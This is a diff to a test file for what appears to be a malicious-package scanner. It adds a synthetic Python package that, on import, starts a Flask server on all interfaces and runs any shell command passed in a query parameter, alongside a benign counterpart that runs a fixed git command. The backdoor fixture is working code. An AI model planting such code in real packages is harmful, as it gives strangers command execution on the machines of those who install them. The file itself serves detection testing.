@@ -1685,6 +1685,42 @@ setup(name='synthetic-pkg', version='1.0.0')
     expect(scoring(build, 'exfiltrates-credentials')).toBeUndefined()
   })
 
+  it('holds a package that starts a web server at import whose endpoint runs the command a request carries', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import subprocess, threading
+from flask import Flask, request
+
+app = Flask(__name__)
+
+@app.route('/status')
+def status():
+    cmd = request.args.get('q')
+    return subprocess.check_output(cmd, shell=True)
+
+threading.Thread(target=app.run, kwargs={'host': '0.0.0.0', 'port': 8765}, daemon=True).start()
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')?.message).toMatch(/subprocess\.check_output/)
+    expect(r.verdict).not.toBe('publish')
+  })
+
+  it('publishes a web app whose endpoints read request data and run a fixed command', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import subprocess
+from flask import Flask, request, jsonify
+
+app = Flask(__name__)
+
+@app.route('/search')
+def search():
+    term = request.args.get('q', '')
+    version = subprocess.check_output(['git', 'describe', '--tags'])
+    return jsonify({'term': term.lower(), 'version': version.decode()})
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
+  })
+
   it('still weighs a credential path read beside network calls in run-time code that also uploads the files it finds', async () => {
     const r = await sdist({
       'synthetic_pkg/__init__.py': '',
